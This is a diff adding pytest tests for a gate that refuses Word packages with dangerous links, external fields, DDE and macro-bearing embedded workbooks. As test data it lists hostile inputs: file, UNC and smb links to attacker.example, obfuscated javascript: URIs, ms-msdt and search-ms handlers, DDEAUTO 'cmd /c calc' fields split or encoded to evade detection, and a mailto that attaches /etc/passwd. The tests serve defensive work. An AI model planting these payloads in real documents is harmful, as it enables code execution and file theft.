@@ -166,6 +166,246 @@ def test_an_embedded_workbook_not_behind_a_chart_is_refused() -> None:
     assert refused(data).code is RefusalCode.OLE_OBJECT
 
 
+# ---------------------------------------------------------------------------------------------
+# Links, fields and embedded packages (issue #9, item 7)
+
+# (id, a hyperlink's target as written in the relationship's XML attribute)
+DANGEROUS_TARGETS = [
+    ("file", "file:///C:/Windows/System32/calc.exe"),
+    ("file-on-a-host", "file://attacker.example/share/x.docx"),
+    ("file-upper-case", "FILE:///C:/x.hta"),
+    ("unc", "\\\\attacker.example\\share\\x.docx"),
+    ("unc-forward-slashes", "//attacker.example/share/x.docx"),
+    ("unc-mixed-slashes", "\\/attacker.example/share"),
+    ("drive-letter", "C:\\Users\\Public\\x.hta"),
+    ("relative-path", "annex.docm"),
+    ("javascript", "javascript:alert(1)"),
+    ("javascript-case-and-spaces", "  JaVaScRiPt:alert(1)"),
+    ("javascript-tab-inside", "java&#9;script:alert(1)"),
+    ("javascript-line-breaks-before", "&#10;&#13;javascript:alert(1)"),
+    ("javascript-c1-control-before", "&#x85;javascript:alert(1)"),
+    ("javascript-zero-width-before", "&#x200B;&#xFEFF;javascript:alert(1)"),
+    ("javascript-percent-encoded-colon", "javascript%3Aalert(1)"),
+    ("vbscript", "vbscript:msgbox(1)"),
+    ("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+    ("ms-word", "ms-word:ofe|u|https://attacker.example/x.docm"),
+    ("ms-excel", "ms-excel:ofv|u|\\\\attacker.example\\s\\x.xlsm"),
+    ("ms-msdt", "ms-msdt:/id PCWDiagnostic /skip force /param x"),
+    ("search-ms", "search-ms:query=invoice&amp;crumb=location:\\\\attacker.example\\s"),
+    ("smb", "smb://attacker.example/share"),
+    ("percent-encoded-scheme", "%66ile:///C:/x.hta"),
+    ("double-percent-encoded", "file%253A%252F%252Fattacker.example"),
+    ("mailto-attach", "mailto:chair@oas.org?attach=C:\\Users\\x\\secret.docx"),
+    ("mailto-attach-encoded", "mailto:chair@oas.org?subject=x&amp;%61ttach=/etc/passwd"),
+]
+
+
+@pytest.mark.parametrize(
+    "target", [t for _, t in DANGEROUS_TARGETS], ids=[i for i, _ in DANGEROUS_TARGETS]
+)
+def test_a_hyperlink_other_than_web_or_mail_is_refused(target: str) -> None:
+    refusal = refused(hostile.linked(target))
+    assert refusal.code is RefusalCode.DANGEROUS_LINK, refusal.reason
+    assert "in the text" in refusal.reason
+    assert "attacker" not in refusal.reason and "calc" not in refusal.reason
+
+
+LINKS_ELSEWHERE: list[tuple[Callable[[], bytes], str]] = [
+    (hostile.link_in_footnote, "in a footnote"),
+    (hostile.link_in_header, "in a header"),
+    (hostile.link_in_comment, "in a comment"),
+    (hostile.internal_mode_link, "in the text"),
+    (lambda: hostile.vml_shape('href="file:///C:/x.hta"'), "in the text"),
+]
+
+
+@pytest.mark.parametrize(
+    ("build", "where"),
+    LINKS_ELSEWHERE,
+    ids=["footnote", "header", "comment", "no-target-mode", "vml-shape-href"],
+)
+def test_a_dangerous_link_anywhere_in_the_document_is_refused(
+    build: Callable[[], bytes], where: str
+) -> None:
+    refusal = refused(build())
+    assert refusal.code is RefusalCode.DANGEROUS_LINK
+    assert where in refusal.reason
+
+
+# (id, the document) for fields that fetch or run outside content
+EXTERNAL_FIELDS: list[tuple[str, Callable[[], bytes]]] = [
+    ("includetext", lambda: hostile.with_field(' INCLUDETEXT "C:\\\\secret.docx" ')),
+    ("includepicture", lambda: hostile.with_field(' INCLUDEPICTURE "http://a.example/p.png" \\d ')),
+    ("include-legacy", lambda: hostile.with_field(' INCLUDE "C:\\\\x.doc" ')),
+    ("dde", lambda: hostile.with_field(' DDE cmd "/c calc" ')),
+    ("ddeauto", lambda: hostile.with_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
+    ("link", lambda: hostile.with_field(' LINK Excel.Sheet.12 "C:\\\\b.xlsx" "R1C1" \\a ')),
+    ("import", lambda: hostile.with_field(' IMPORT "C:\\\\p.wmf" ')),
+    ("database", lambda: hostile.with_field(' DATABASE \\d "C:\\\\d.mdb" \\s "SELECT 1" ')),
+    ("rd", lambda: hostile.with_field(' RD "C:\\\\chapter.docx" ')),
+    ("split-across-runs", lambda: hostile.with_field(" DD", "EAU", 'TO cmd "/c calc" ')),
+    ("lower-case", lambda: hostile.with_field(' includetext "x.docx" ')),
+    ("no-space-before-argument", lambda: hostile.with_field('INCLUDETEXT"x.docx"')),
+    ("character-reference", lambda: hostile.with_field(' &#73;NCLUDETEXT "x.docx" ')),
+    ("comment-inside", lambda: hostile.with_field(' INCLUDE<!-- -->TEXT "x.docx" ')),
+    ("cdata", lambda: hostile.with_field(' <![CDATA[INCLUDETEXT]]> "x.docx" ')),
+    ("zero-width-inside", lambda: hostile.with_field(' DDE&#x200B;AUTO cmd "/c calc" ')),
+    ("simple-field", lambda: hostile.with_simple_field("DDEAUTO cmd &quot;/c calc&quot;")),
+    ("simple-field-includepicture", lambda: hostile.with_simple_field(" INCLUDEPICTURE x.png")),
+    (
+        "after-200-KiB-of-text",
+        lambda: hostile.minimal_docx(
+            hostile.paragraphs(f"Article {i}. " + "word " * 30 for i in range(1200))
+            + "<w:p>"
+            + hostile.complex_field(' DDEAUTO cmd "/c calc" ')
+            + "</w:p>"
+        ),
+    ),
+    ("nested-in-if", hostile.field_nested_in_if),
+    (
+        "keyword-built-by-quote",
+        lambda: hostile.field_with_nested(" ", "{ QUOTE 68 68 69 65 85 84 79 }", ' cmd "/c x" '),
+    ),
+    (
+        "keyword-completed-by-a-field",
+        lambda: hostile.field_with_nested(" DD", '{ QUOTE "E" }', ' cmd "/c calc" '),
+    ),
+    ("in-a-tracked-deletion", hostile.field_in_tracked_deletion),
+    ("hidden-by-tracked-changes", hostile.field_hidden_by_a_tracked_insertion),
+    ("in-a-header", hostile.field_in_header),
+]
+
+
+@pytest.mark.parametrize(
+    "build", [b for _, b in EXTERNAL_FIELDS], ids=[i for i, _ in EXTERNAL_FIELDS]
+)
+def test_a_field_that_fetches_outside_content_is_refused(build: Callable[[], bytes]) -> None:
+    refusal = refused(build())
+    assert refusal.code is RefusalCode.EXTERNAL_FIELD, refusal.reason
+    assert "Ctrl+Shift+F9" in refusal.reason
+
+
+HYPERLINK_FIELDS = [
+    ("unc", ' HYPERLINK "\\\\\\\\attacker.example\\\\s\\\\x.docx" '),
+    ("unc-unquoted", " HYPERLINK \\\\attacker.example\\s "),
+    ("file", ' HYPERLINK "file:///C:/x.hta" \\o "The annex" '),
+    ("javascript", ' HYPERLINK "javascript:alert(1)" '),
+    ("ms-word", ' hyperlink "ms-word:ofe|u|https://attacker.example/x.docm" '),
+    ("after-a-bookmark", ' HYPERLINK \\l "annex" "file:///C:/x.hta" '),
+]
+
+
+@pytest.mark.parametrize(
+    "instruction", [i for _, i in HYPERLINK_FIELDS], ids=[i for i, _ in HYPERLINK_FIELDS]
+)
+def test_a_hyperlink_field_other_than_web_or_mail_is_refused(instruction: str) -> None:
+    assert refused(hostile.with_field(instruction)).code is RefusalCode.DANGEROUS_LINK
+    escaped = instruction.replace('"', "&quot;")
+    assert refused(hostile.with_simple_field(escaped)).code is RefusalCode.DANGEROUS_LINK
+
+
+def test_a_hyperlink_field_whose_target_another_field_builds_is_refused() -> None:
+    data = hostile.field_with_nested(' HYPERLINK "', '{ QUOTE "file:///C:/x.hta" }', '" ')
+    assert refused(data).code is RefusalCode.DANGEROUS_LINK
+
+
+def test_a_mail_merge_and_a_picture_fetched_from_outside_are_refused() -> None:
+    assert refused(hostile.mail_merge()).code is RefusalCode.EXTERNAL_RELATIONSHIP
+    refusal = refused(hostile.vml_picture_from_a_share())
+    assert refusal.code is RefusalCode.EXTERNAL_RELATIONSHIP
+    assert "picture" in refusal.reason
+
+
+EMBEDDED: list[tuple[str, Callable[[], bytes], RefusalCode]] = [
+    ("macros", lambda: hostile.with_chart(hostile.workbook_with_macros()), RefusalCode.MACROS),
+    (
+        "external-link",
+        lambda: hostile.with_chart(hostile.workbook_with_external_link()),
+        RefusalCode.EXTERNAL_RELATIONSHIP,
+    ),
+    (
+        "external-link-untyped",
+        lambda: hostile.with_chart(hostile.workbook_with_external_link(typed=False)),
+        RefusalCode.EXTERNAL_RELATIONSHIP,
+    ),
+    (
+        "dde-link",
+        lambda: hostile.with_chart(hostile.workbook_with_dde_link()),
+        RefusalCode.EXTERNAL_RELATIONSHIP,
+    ),
+    (
+        "hyperlink-to-a-share",
+        lambda: hostile.with_chart(hostile.workbook_with_link_to_a_share()),
+        RefusalCode.DANGEROUS_LINK,
+    ),
+    ("doctype", lambda: hostile.with_chart(hostile.workbook_with_doctype()), RefusalCode.DOCTYPE),
+    ("not-a-zip", lambda: hostile.with_chart(b"MZ\x90\x00 not a workbook"), RefusalCode.NOT_ZIP),
+    (
+        "word-macros-as-workbook",
+        lambda: hostile.with_chart(hostile.word_macros_as_workbook()),
+        RefusalCode.MACROS,
+    ),
+    ("zip-bomb", lambda: hostile.with_chart(hostile.zip_bomb(64)), RefusalCode.ZIP_BOMB),
+    ("outside-the-embeddings-folder", hostile.chart_with_macros_elsewhere, RefusalCode.MACROS),
+    ("nested-too-deep", hostile.charts_nested_too_deep, RefusalCode.OLE_OBJECT),
+]
+
+
+@pytest.mark.parametrize(
+    ("build", "code"), [(b, c) for _, b, c in EMBEDDED], ids=[i for i, _, _ in EMBEDDED]
+)
+def test_a_charts_workbook_goes_through_the_same_gate(
+    build: Callable[[], bytes], code: RefusalCode
+) -> None:
+    refusal = refused(build())
+    assert refusal.code is code, refusal.reason
+    assert "embeds" in refusal.reason
+
+
+def test_a_workbook_a_level_deeper_is_gated_too() -> None:
+    check_package(hostile.with_chart(hostile.workbook_with_a_chart(hostile.workbook())))
+    deeper = hostile.workbook_with_a_chart(hostile.workbook_with_macros())
+    assert refused(hostile.with_chart(deeper)).code is RefusalCode.MACROS
+
+
+BENIGN_LINKS_AND_FIELDS: list[tuple[str, Callable[[], bytes]]] = [
+    ("https", lambda: hostile.linked("https://www.oas.org/en/")),
+    ("http-upper-case", lambda: hostile.linked("HTTP://WWW.OAS.ORG/")),
+    ("https-percent-encoded", lambda: hostile.linked("https://www.oas.org/docs/a%20b.pdf#p=2")),
+    ("mailto", lambda: hostile.linked("mailto:secretariat@oas.org?subject=Plan%20of%20Action")),
+    ("bookmark", lambda: hostile.linked("#_Toc123")),
+    ("https-in-a-footnote", lambda: hostile.link_in_footnote("https://www.oas.org/")),
+    ("mailto-in-a-header", lambda: hostile.link_in_header("mailto:chair@oas.org")),
+    ("vml-shape-https", lambda: hostile.vml_shape('href="https://www.oas.org/"')),
+    ("page", lambda: hostile.with_field(" PAGE ")),
+    ("numpages", lambda: hostile.with_field(" NUMPAGES \\* MERGEFORMAT ")),
+    ("toc", lambda: hostile.with_field(' TOC \\o "1-3" \\h \\z \\u ')),
+    ("ref", lambda: hostile.with_field(" REF _Ref123 \\h ")),
+    ("ref-to-a-bookmark-named-link", lambda: hostile.with_field(" REF LINK \\h ")),
+    ("date", lambda: hostile.with_field(' DATE \\@ "d MMMM yyyy" ')),
+    ("if-with-the-word-include", lambda: hostile.with_field(' IF 1 = 1 "Include it" "" ')),
+    ("hyperlink-https", lambda: hostile.with_field(' HYPERLINK "https://www.oas.org/" ')),
+    ("hyperlink-split", lambda: hostile.with_field(" HYPER", 'LINK "https://www.oas.org/" ')),
+    ("hyperlink-tooltip", lambda: hostile.with_field(' HYPERLINK "https://oas.org" \\o "C:\\x" ')),
+    ("hyperlink-bookmark", lambda: hostile.with_field(' HYPERLINK \\l "_Toc123" ')),
+    (
+        "hyperlink-mailto-simple",
+        lambda: hostile.with_simple_field("HYPERLINK &quot;mailto:c@oas.org&quot;"),
+    ),
+    ("simple-field-page", lambda: hostile.with_simple_field(" PAGE ")),
+    ("if-with-a-nested-ref", lambda: hostile.field_with_nested(" IF ", "{ REF x }", ' = "1" "a" ')),
+    ("quote-with-a-nested-date", lambda: hostile.field_with_nested(" QUOTE ", "{ DATE }")),
+    ("chart-with-its-workbook", hostile.with_chart),
+]
+
+
+@pytest.mark.parametrize(
+    "build", [b for _, b in BENIGN_LINKS_AND_FIELDS], ids=[i for i, _ in BENIGN_LINKS_AND_FIELDS]
+)
+def test_web_and_mail_links_and_ordinary_fields_pass(build: Callable[[], bytes]) -> None:
+    check_package(build())
+
+
 @pytest.mark.parametrize(
     "build",
     [
